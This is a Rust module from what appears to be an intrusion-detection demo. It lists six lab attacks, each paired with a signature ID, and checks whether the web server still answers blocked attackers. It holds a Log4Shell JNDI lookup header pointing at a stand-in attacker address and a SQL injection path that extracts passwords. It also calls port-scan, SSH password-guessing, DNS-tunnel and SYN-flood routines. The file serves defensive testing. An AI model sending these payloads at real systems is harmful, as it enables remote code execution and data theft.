//! The attacks of the demo, one after the other, and what is told of each.

use super::attack;
use super::lab::{ATTACKER_V6, HOST, HOST_V6, Lab, NEIGHBOUR, Place, attacker};
use anyhow::Result;
use std::net::{IpAddr, SocketAddr};

/// One attack.
pub struct Scene {
    /// What happens, for people.
    pub title: &'static str,
    /// The signature that sees it.
    pub sid: u32,
    /// Where it comes from.
    pub from: IpAddr,
    /// Does it.
    pub attack: fn(IpAddr) -> Result<()>,
}

/// All attacks, each from an address of its own: the one before is blocked by then.
pub const SCENES: &[Scene] = &[
    Scene {
        title: "scans a hundred ports",
        sid: 9_100_001,
        from: attacker(1),
        attack: |from| attack::scan(from, HOST),
    },
    Scene {
        title: "asks for a Log4Shell lookup in a header",
        sid: 9_100_002,
        from: attacker(2),
        attack: |from| {
            let header = "User-Agent: ${jndi:ldap://203.0.113.62/a}\r\n";
            attack::http(from, SocketAddr::new(HOST, 80), "/", header).map(drop)
        },
    },
    Scene {
        title: "guesses SSH passwords",
        sid: 9_100_003,
        from: attacker(3),
        attack: |from| attack::guess_passwords(from, SocketAddr::new(HOST, 22)),
    },
    Scene {
        title: "injects SQL over IPv6",
        sid: 9_100_004,
        from: ATTACKER_V6,
        attack: |from| {
            let path = "/shop?id=1%27%20UNION%20SELECT%20password%20FROM%20users--";
            attack::http(from, SocketAddr::new(HOST_V6, 80), path, "").map(drop)
        },
    },
    Scene {
        title: "tunnels data through DNS names",
        sid: 9_100_005,
        from: attacker(5),
        attack: |from| attack::tunnel(from, SocketAddr::new(NEIGHBOUR, 53)),
    },
    Scene {
        title: "floods the web server with SYNs",
        sid: 9_100_006,
        from: attacker(6),
        attack: |from| attack::flood(from, SocketAddr::new(HOST, 80)),
    },
];

/// Whether the web server answers this address of the attacker.
pub fn is_answered(lab: &Lab, from: IpAddr) -> Result<bool> {
    let host = if from.is_ipv4() { HOST } else { HOST_V6 };
    let asked = lab.inside(Place::Attacker, move || {
        attack::http(from, SocketAddr::new(host, 80), "/", "")
            .is_ok_and(|line| line.contains("200"))
    })?;
    match asked.join() {
        Ok(answered) => answered,
        Err(_) => anyhow::bail!("a thread of the demo panicked"),
    }
}
